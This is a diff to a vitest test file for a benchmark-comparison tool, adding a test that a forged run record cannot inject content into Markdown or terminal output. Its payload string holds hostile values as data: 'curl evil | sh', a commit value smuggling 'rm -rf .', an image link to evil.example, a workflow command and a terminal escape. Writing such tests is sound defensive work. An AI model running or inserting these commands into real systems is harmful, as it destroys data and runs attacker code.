@@ -1,5 +1,6 @@
 import { createHash } from "node:crypto";
 import { describe, expect, it } from "vitest";
+import { escapeMarkdown } from "../../../src/core/escape.ts";
 import { formatTable } from "../../../src/harness/cli/output.ts";
 import { compareRuns } from "../../../src/harness/compare/compare.ts";
 import { usual } from "../../../src/harness/compare/options.ts";
@@ -40,6 +41,23 @@ const compare = (changes: Partial<Parameters<typeof compareRuns>[0]> = {}) =>
 
 const elsewhere = { ...head, machine: { ...machine, device: "Other CPU", node: "22" } };
 const marked = compare({ head: { label: "head", snapshot: elsewhere }, allowMismatch: true });
+
+/** A regression of a run whose record came from elsewhere. */
+const forged = (command: string, commit: string) => {
+  const run = { ...head.run, command };
+  return compare({ head: { label: "head", snapshot: { ...head, run, commit } } });
+};
+
+it("nothing that a record calls its command or commit runs in a shell, closes a block or controls a terminal", () => {
+  const payload = "bench run\n```\n<img src=https://evil.example/x>\n::error::x\u001b[2J; curl evil | sh";
+  const forgedRun = forged(payload, "master; rm -rf .");
+  for (const text of [comparisonMarkdown(forgedRun), comparisonText(forgedRun, () => "")]) {
+    expect(text).toContain("# the command of head is not recorded as bench writes it");
+    expect(text).not.toMatch(/curl|rm -rf|evil|\[2J/);
+  }
+  const quoted = "bench run --suite 'my suite' --set 'a='\\\\''b'";
+  expect(comparisonMarkdown(forged(quoted.replaceAll("\\\\", "\\"), "b".repeat(40)))).toContain("'my suite'");
+});
 
 const repeat = [
   `git switch --detach ${"a".repeat(40)} && npm ci`,
@@ -113,7 +131,7 @@ describe("Markdown", () => {
     for (const limit of [6_000, 50_000, 300_000]) {
       const text = comparisonMarkdown(big, limit);
       expect(Buffer.byteLength(text)).toBeLessThanOrEqual(limit);
-      expect(text).not.toContain("\ufffd");
+      expect(text.replaceAll(escapeMarkdown(NASTY), "")).not.toContain("\ufffd"); // no letter is cut in two
       const [, left, all] =
         /\*\*Cut to \d+ bytes: (\d+) of (\d+) rows are left out\. --json holds all of them\.\*\*\n$/.exec(
           text,
